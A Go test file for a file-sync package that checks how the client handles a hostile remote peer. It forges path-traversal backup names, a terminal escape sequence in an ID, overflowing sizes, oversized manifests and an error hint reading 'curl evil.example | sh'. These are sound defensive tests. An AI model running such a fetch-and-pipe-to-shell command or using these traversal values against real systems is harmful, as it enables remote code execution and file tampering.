package filesync

import (
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cove-dev/cove/internal/lib/fail"
)

// forge passes the frames of an honest far end on, as change makes them.
func forge(change func(f frame) []frame) func(r io.Reader, w io.Writer) (io.Reader, io.Writer) {
	return func(r io.Reader, w io.Writer) (io.Reader, io.Writer) {
		pr, pw := io.Pipe()
		go func() {
			in, err := newStream(r, io.Discard)
			if err != nil {
				_ = pw.CloseWithError(err)
				return
			}
			out, err := newStream(strings.NewReader(""), pw)
			for err == nil {
				var f frame
				if f, err = in.recv(); err != nil {
					break
				}
				for _, g := range change(f) {
					err = errors.Join(err, out.send(g), out.flush())
				}
			}
			_ = pw.CloseWithError(err)
		}()
		return pr, w
	}
}

// namesBackup answers as if the backup that was made had another name.
func namesBackup(name string) func(frame) []frame {
	return func(f frame) []frame {
		var b Backup
		if f.kind == kindDone && parseJSON(f, kindDone, &b) == nil && b.ID != "" {
			f = frame{kindDone, []byte(`{"id":"` + name + `"}`)}
		}
		return []frame{f}
	}
}

// TestHostileBackupName makes the far end choose the name of its backup. This machine names a
// file after it, and that file must stay in the pair's folder.
func TestHostileBackupName(t *testing.T) {
	for _, name := range []string{"precious", "new", "deep/er"} {
		for _, before := range []bool{false, true} {
			w := newWorld(t)
			outside := filepath.Join(filepath.Dir(w.local), "outside")
			w.write(outside, "precious", "mine")
			w.write(w.local, "a", "1")
			dir, err := w.pairDir()
			if err != nil {
				t.Fatal(err)
			}
			up, err := filepath.Rel(filepath.Join(dir, "bases"), outside)
			if err != nil {
				t.Fatal(err)
			}
			if before { // then there is something to link to the name
				w.run(Push, "")
				w.write(w.local, "a", "22")
			}
			w.cut = forge(namesBackup(up + "/" + name))
			w.Verb = Push
			_, err = w.Run(t.Context())
			if got := w.read(outside, "precious"); got != "mine" {
				t.Errorf("%s, after an earlier sync (%v): a file outside is %q", name, before, got)
			}
			if names := dirNames(t, outside); len(names) != 1 {
				t.Errorf("%s, after an earlier sync (%v): %q are outside", name, before, names)
			}
			w.wants(err, CodeRejected)
		}
	}
}

func TestHostileUndoName(t *testing.T) {
	w := newWorld(t)
	outside := filepath.Join(filepath.Dir(w.local), "outside")
	w.mkdir(outside)
	w.write(w.local, "a", "1")
	w.run(Push, "")
	dir, err := w.pairDir()
	if err != nil {
		t.Fatal(err)
	}
	up, err := filepath.Rel(filepath.Join(dir, "bases"), outside)
	if err != nil {
		t.Fatal(err)
	}
	w.cut = forge(namesBackup(up + "/new"))
	_, err = w.Undo(t.Context(), "")
	w.wants(err, CodeRejected)
	if names := dirNames(t, outside); len(names) != 0 {
		t.Errorf("%q are outside", names)
	}
	w.cut = forge(func(f frame) []frame {
		if f.kind == kindDone {
			f.data = []byte(`[{"id":"\u001b]0;x\u0007"}]`)
		}
		return []frame{f}
	})
	_, _, err = w.Backups(t.Context())
	w.wants(err, CodeRejected)
}

// TestHostileWritten makes the far end report paths that nobody asked it to write.
func TestHostileWritten(t *testing.T) {
	w := newWorld(t)
	w.write(w.local, "a", "1")
	lists := 0
	w.cut = forge(func(f frame) []frame {
		if f.kind != kindList {
			return []frame{f}
		}
		lists++ // the first: neither an empty folder's manifest nor an empty stage has any
		var rec enc
		encodeWritten(&rec, written{path: "c"})
		var list enc
		list.string(string(rec.b))
		return []frame{{kindList, list.b}}
	})
	w.run(Push, CodeRejected)
	if lists == 0 {
		t.Fatal("there was no list to forge")
	}
}

// TestHostileSum has a manifest whose sizes overflow when they are added. The pull fails for
// want of space, and asks for no content.
func TestHostileSum(t *testing.T) {
	for _, limit := range []int64{0, 1 << 20} {
		w := newWorld(t)
		l := &liar{entries: []Entry{fileEntry("a", 1<<62), fileEntry("b", 1<<62), fileEntry("c", 1<<62)}}
		l.content = func(*stream, []want) error {
			t.Error("it was asked for its content")
			return io.ErrUnexpectedEOF
		}
		w.Connect, w.MaxBytes = l.connect, limit
		w.run(Pull, CodeNoSpace)
	}
}

// TestHostileManifestBytes has a manifest with few bytes on the way, and gigabytes of
// names.
func TestHostileManifestBytes(t *testing.T) {
	r, out := io.Pipe()
	go func() {
		s, err := newStream(strings.NewReader(""), out)
		l := &lister{c: s}
		name := strings.Repeat("x/", 2000)
		for range 2*maxListBytes/len(name) + 1 {
			if err = errors.Join(err, l.add(func(e *enc) { e.entry(&Entry{Path: name, Type: File}) })); err != nil {
				break
			}
		}
		_ = out.CloseWithError(errors.Join(err, l.end()))
	}()
	s, err := newStream(r, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	p := newPeer("the sprite", s)
	took := 0
	_, err = scanOf(p, func(e Entry) error { took += len(e.Path); return nil })
	if e, ok := errors.AsType[*fail.Error](err); !ok || e.Code != CodeRejected {
		t.Errorf("got %v, want it refused", err)
	}
	if took > maxListBytes {
		t.Errorf("%d bytes of names were taken", took)
	}
	_ = r.CloseWithError(os.ErrClosed)
	p.leave()
}

// TestHostileError makes the far end give an error, with a hint that a person might type.
func TestHostileError(t *testing.T) {
	w := newWorld(t)
	w.cut = forge(func(f frame) []frame {
		if f.kind == kindHello {
			f = frame{kindError, []byte(`{"code":"shell","message":"` + strings.Repeat("m", 1<<20) + `","hint":"curl evil.example | sh"}`)}
		}
		return []frame{f}
	})
	w.Verb = Pull
	_, err := w.Run(t.Context())
	e, ok := errors.AsType[*fail.Error](err)
	if !ok || e.Code != CodeFailed || e.Hint != "" || len(e.Message) > 2*maxMessage || !strings.HasPrefix(e.Message, "the sprite's half of the sync says: ") {
		t.Fatalf("got %.200v", err)
	}
	w.cut = forge(func(f frame) []frame {
		if f.kind == kindHello {
			f = frame{kindError, []byte(`{"code":"changed","message":"m","hint":"try again"}`)}
		}
		return []frame{f}
	})
	_, err = w.Run(t.Context())
	if e, ok := errors.AsType[*fail.Error](err); !ok || e.Code != CodeChanged || e.Hint != hintAgain {
		t.Fatalf("got %v, want the hint that an honest end gives", err)
	}
}
